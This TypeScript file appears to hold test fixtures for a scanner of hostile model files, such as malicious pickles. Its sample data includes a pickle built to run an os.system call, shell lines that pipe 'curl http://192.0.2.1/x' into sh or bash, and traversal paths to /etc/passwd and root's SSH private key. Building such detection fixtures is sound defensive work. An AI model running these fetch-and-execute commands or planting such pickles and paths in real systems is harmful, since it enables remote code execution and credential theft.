// What a recipe of the set of hostile models is: one line that says what is wrong, how bad it is, and the file. An honest twin is
// a file of the same format with nothing wrong. All of it is inert, and nothing here loads a file.

import type { Severity } from '../../../../packages/contract/src/index.ts';
import { assembleElf } from '../../../../packages/testkit/src/program-assembler.ts';
import { callPickle, PAYLOADS } from '../recipe.ts';

/** What a scanner should say of a file: a severity, or nothing above LOW. */
export type Expected = Severity | 'honest';

/** `content` is bytes, text, or a value that is written as JSON. */
export type ModelRow = readonly [what: string, expected: Expected, name: string, content: unknown];

/** One format, or one way to name callables, with its files. */
export interface ModelGroup {
  readonly group: string;
  readonly rows: readonly ModelRow[];
}

export function modelGroup(group: string, rows: readonly ModelRow[]): ModelGroup {
  return { group, rows };
}

/** The same file, with one part of it replaced: rows that differ in a text alone. */
export function rowsOf<T>(
  parts: readonly (readonly [what: string, expected: Expected, part: T])[],
  name: string,
  make: (part: T) => unknown,
): ModelRow[] {
  return parts.map(([what, expected, part]) => [what, expected, name, make(part)]);
}

/** A pickle that would run a command, and one that holds a dictionary. */
export const HARMFUL_PICKLE: Uint8Array = callPickle(PAYLOADS[0] ?? ['os', 'system', 'echo inert']);
export const HARMFUL_PICKLE_BASE64 = Buffer.from(HARMFUL_PICKLE).toString('base64');
/** The head of a program, long enough to be one. */
export const PROGRAM: Uint8Array = Buffer.concat([assembleElf(), Buffer.alloc(256)]);
export const SCRIPT = '#!/bin/sh\ncurl http://192.0.2.1/x | sh\n';
export const COMMAND = 'curl http://192.0.2.1/x.sh | bash';
export const PYTHON = "import os; os.system('echo inert')";
/** Where nobody should make a loader look. */
export const PASSWORDS = '/etc/passwd';
export const OUTSIDE = '../../../../root/.ssh/id_rsa';

/** The bytes of a row. */
export function bytesOf(content: unknown): Uint8Array {
  if (content instanceof Uint8Array) return content;
  return Buffer.from(typeof content === 'string' ? content : JSON.stringify(content));
}
